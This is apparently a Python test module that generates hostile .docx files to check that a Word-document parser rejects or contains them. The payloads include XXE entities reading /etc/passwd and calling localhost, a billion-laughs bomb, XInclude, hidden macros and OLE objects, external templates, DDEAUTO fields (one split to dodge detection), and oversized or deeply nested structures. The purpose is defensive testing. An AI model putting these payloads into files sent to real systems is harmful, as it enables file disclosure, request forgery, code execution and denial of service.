"""Word files with a well made archive and something else inside."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Iterator
from functools import partial
from xml.sax.saxutils import quoteattr

from tests.hostile.archives import DAMAGED, TOO_MUCH, parts, with_part
from tests.hostile.case import Case, Read, as_plain, plain, rows_as_plain
from tests.projects.passport import northern
from tests.projects.passport.word import NAMESPACE, Span, body, document_xml, docx, package, paragraph, table

MACROS, OBJECTS, LINKS, DECLARED = "макросы", "вставленные объекты", "вне себя", "служебные объявления"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
BODY = body(northern.municipal())
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DECLARATIONS = {
    "an entity that is a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an entity at an address": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:{port}/a">]>',
    "a parameter entity at an address": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:{port}/a"> %a;]>',
    "a schema at an address": '<!DOCTYPE x SYSTEM "http://127.0.0.1:{port}/a.dtd">',
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ха">{LAUGHS}]>',
    "one long entity": f'<!DOCTYPE x [<!ENTITY a "{"a" * 1_000_000}">]>',
}


def declared(xml: str, declaration: str, encoding: str = "utf-8") -> bytes:
    """The same XML with a declaration before its root, in some encoding."""
    head, _, rest = xml.partition("?>")
    said = f'<?xml version="1.0" encoding="{encoding}"?>' if "?>" in xml else ""
    del head
    return (said + declaration + rest).encode(encoding, "xmlcharrefreplace")


def relations(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    relation = f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{relation}</Relationships>'


def typed(part: str, kind: str) -> str:
    types = str(parts()["[Content_Types].xml"], "utf-8")  # type: ignore[arg-type]
    return types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')


def entities(port: int) -> Iterator[Case]:
    document = document_xml(BODY.replace("Тёплая", "&a;Тёплая", 1))
    for name, declaration in DECLARATIONS.items():
        said = declaration.replace("{port}", str(port))
        yield Case(
            f"{name}, in the document",
            "docx",
            partial(with_part, "word/document.xml", declared(document, said)),
            DECLARED,
        )
    said = DECLARATIONS["an entity that is a file"]
    small = f'<?xml version="1.0"?><w:styles xmlns:w="{NAMESPACE}"/>'
    for part in ("word/styles.xml", "word/numbering.xml", "word/footnotes.xml"):
        yield Case(
            f"an entity in {part}",
            "docx",
            partial(with_part, part, declared(small, said)),
            DECLARED,
        )
    rels = relations("hyperlink", "https://pravo.example/")
    yield Case(
        "an entity in the relations",
        "docx",
        lambda: with_part("word/_rels/document.xml.rels", declared(rels, said)),
        DECLARED,
    )
    for encoding in ("utf-16", "utf-16-be", "utf-7", "cp037"):
        content = declared(document, '<!DOCTYPE x [<!ENTITY a "b">]>', encoding)
        yield Case(
            f"an entity in {encoding}",
            "docx",
            partial(with_part, "word/document.xml", content),
            DAMAGED if encoding == "cp037" else DECLARED,
        )
    included = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield Case("an inclusion of a file", "docx", lambda: docx(included + BODY), "", as_plain)


def executables() -> Iterator[Case]:
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Case("a .docm", "docm", lambda: docx(BODY, main=macro_main), MACROS)
    yield Case(
        "a .docm renamed",
        "docx",
        lambda: package(parts() | {"word/vbaProject.bin": "x", "word/vbaData.xml": "<x/>"}),
        MACROS,
    )
    yield Case(
        "a project of macros under another name",
        "docx",
        lambda: package(
            parts()
            | {"[Content_Types].xml": typed("word/a.bin", "application/vnd.ms-office.vbaProject"), "word/a.bin": "x"}
        ),
        MACROS,
    )
    for name in ("word/embeddings/oleObject1.bin", "word/embeddings/a.xlsx", "word/activeX/activeX1.xml"):
        yield Case(f"{name} inside", "docx", partial(with_part, name, "x"), OBJECTS)
    inside = relations("oleObject", "media/image1.png", "")
    yield Case(
        "an object under the name of a picture",
        "docx",
        lambda: package(parts() | {"word/_rels/document.xml.rels": inside, "word/media/image1.png": "x"}),
        OBJECTS,
    )
    for kind, target in (
        ("attachedTemplate", "http://a.example/t.dotm"),
        ("attachedTemplate", "file://host/share/t.dotm"),
        ("oleObject", "file:///etc/passwd"),
        ("image", "http://127.0.0.1/a.png"),
        ("subDocument", "http://a.example/a.docx"),
        ("frame", "http://a.example/a.htm"),
        ("hyperlink", "file:///etc/passwd"),
        ("hyperlink", "\\\\host\\share"),
        ("hyperlink", "javascript:alert(1)"),
    ):
        said = partial(with_part, "word/_rels/settings.xml.rels", relations(kind, target))
        yield Case(f"a relation {kind} to {target}", "docx", said, LINKS)
    yield Case(
        "a link to a law",
        "docx",
        lambda: with_part("word/_rels/document.xml.rels", relations("hyperlink", "https://pravo.example/d?id=1")),
        "",
        as_plain,
    )
    content = relations("attachedTemplate", "http://a.example/t.dotm")
    yield Case(
        "relations in capital letters", "docx", lambda: with_part("word/_RELS/settings.xml.RELS", content), LINKS
    )
    remark = content.replace("<Relationship ", "<!-- a --><?b c?><Relationship ")
    yield Case("relations after a remark", "docx", lambda: with_part("word/_rels/settings.xml.rels", remark), LINKS)
    for code in (r"DDEAUTO c:\a.exe b", r"INCLUDETEXT \\host\a.txt", "INCLUDEPICTURE http://a.example/a.png"):
        field = f"<w:p><w:fldSimple w:instr={quoteattr(code)}><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        yield Case(f"a field {code.split()[0]}", "docx", partial(docx, BODY + field), LINKS)
    split = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DEAU", "TO c:\\\\a.exe"))
    yield Case("a field DDEAUTO in pieces", "docx", lambda: docx(f"{BODY}<w:p>{split}</w:p>"), LINKS)
    page = '<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    yield Case("a field that counts pages", "docx", lambda: docx(BODY + page), "", as_plain)


def nested_tables(depth: int) -> str:
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl><w:p/>"
    return opening * depth + paragraph("внутри") + closing * depth


def merged_everywhere() -> str:
    """Every cell of every table merged with the one above it, over as many columns as there can be."""
    row = '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>'
    return f"<w:tbl>{row * 2000}</w:tbl>"


def thin(size: int, line: str) -> str:
    """``line`` over and over with other figures in it: fast to make, and packed too little to be called dense."""
    chance = random.Random(3)
    block = "".join([line % chance.randbytes(4).hex() for _ in range(1 + (1 << 20) // (len(line) + 6))])
    times, rest = divmod(size, len(block))
    return block * times + block[: block.rfind(line[:4], 0, rest)]


def quickly(content: str) -> bytes:
    """A Word file packed with little effort."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, part in (parts() | {"word/document.xml": document_xml(content)}).items():
            archive.writestr(name, part)
    return stream.getvalue()


def numbered(letters: int, count: int) -> bytes:
    """A list whose number is very long, and many paragraphs of it."""
    label = "%1." * (letters // 3)
    level = f'<w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="{label}"/>'
    numbering = (
        f'<?xml version="1.0"?><w:numbering xmlns:w="{NAMESPACE}"><w:abstractNum w:abstractNumId="1">{level}</w:lvl>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    item = '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    return docx(BODY + item * count, numbering=numbering)


def long_paragraph(size: int) -> bytes:
    return quickly(
        f"{BODY}<w:p><w:r><w:t>{thin(size, 'слово %s и дело за делом, шаг за шагом, день за днём, ')}</w:t></w:r></w:p>"
    )


def endless_row(count: int) -> bytes:
    """A table of which every row goes on with the one before it."""
    head = table(
        [["№ п/п", "Наименование мероприятия, контрольной точки", "Начало", "Окончание"], ["1", "Дом", "", ""]]
    )
    row = table([["", "слово %s", "", ""]]).removeprefix("<w:tbl>").removesuffix("</w:tbl>")
    return quickly(head.removesuffix("</w:tbl>") + thin(count * len(row), row) + "</w:tbl>")


def _around(passport: Read) -> bool:
    """Whether the lists that the hostile part does not look like are those of the untouched file."""
    return all(passport[key] == plain()[key] for key in ("results", "finance", "participants", "plan", "breakdown"))


def shapes() -> Iterator[Case]:
    yield Case("tables nested 50 deep", "docx", lambda: docx(nested_tables(50) + BODY), "", rows_as_plain)
    yield Case("tables nested 80 deep", "docx", lambda: docx(nested_tables(80) + BODY), DAMAGED, rows_as_plain)
    yield Case("elements nested 100,000 deep", "docx", lambda: docx("<w:p>" * 100_000 + "</w:p>" * 100_000), DAMAGED)
    wide = [[str(index) for index in range(10_000)]]
    yield Case("a table of 10,000 columns", "docx", lambda: docx(BODY + table(wide)), "", _around)
    spans = [[Span(str(index), 9_999) for index in range(300)] for _ in range(100)]
    yield Case("cells over 9,999 columns", "docx", lambda: docx(BODY + table(spans)), "", _around)
    yield Case("cells merged everywhere", "docx", lambda: docx(merged_everywhere() + BODY), "", rows_as_plain)
    yield Case("a paragraph of 50 MB", "docx", lambda: long_paragraph(50 << 20), TOO_MUCH)
    yield Case("a paragraph of 5 million letters", "docx", lambda: long_paragraph(5_000_000), "слишком")
    yield Case("20 MB of empty paragraphs", "docx", lambda: quickly(thin(20 << 20, '<w:p w:rsidR="%s"/>')), TOO_MUCH)
    yield Case(
        "a number of 30,000 letters before 2,000 paragraphs", "docx", lambda: numbered(30_000, 2_000), "", rows_as_plain
    )
    yield Case("a row continued 40,000 times", "docx", lambda: endless_row(40_000), TOO_MUCH)
    attributes = " ".join(f'a{index}=""' for index in range(700_000))
    yield Case("an element of 700,000 attributes", "docx", lambda: docx(f"<w:p {attributes}/>" + BODY), TOO_MUCH)
    stars = paragraph("*" * 40 + "x")
    starred = table([["№", "Показатель", "2020", "2021"], ["1", "Дом", "*" * 300 + "x", "¹*" * 300 + "x"]])
    yield Case("hundreds of footnote marks", "docx", lambda: docx(BODY + stars + starred), "", _around)
    hidden = BODY.replace("Тёплая", "\u202eТёплая\u202c\u200f", 1)
    yield Case("letters that turn the text around", "docx", lambda: docx(hidden), "", rows_as_plain)
